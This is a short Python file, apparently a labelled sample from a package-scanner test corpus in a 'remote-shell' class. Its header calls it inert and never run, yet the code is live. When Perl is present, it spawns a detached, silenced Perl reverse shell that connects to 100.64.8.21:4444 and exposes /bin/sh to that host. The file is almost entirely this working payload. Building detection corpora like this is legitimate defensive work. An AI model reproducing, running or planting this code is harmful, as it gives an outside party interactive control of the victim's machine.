# pkgguard corpus 825 (remote-shell), modelled on [taxonomy]; inert, never run.
import shutil
import subprocess

_ONE_LINER = (
    'use Socket;$i="100.64.8.21";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
    'open(STDERR,">&S");exec("/bin/sh -i");};'
)

if shutil.which("perl"):
    subprocess.Popen(["perl", "-e", _ONE_LINER], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
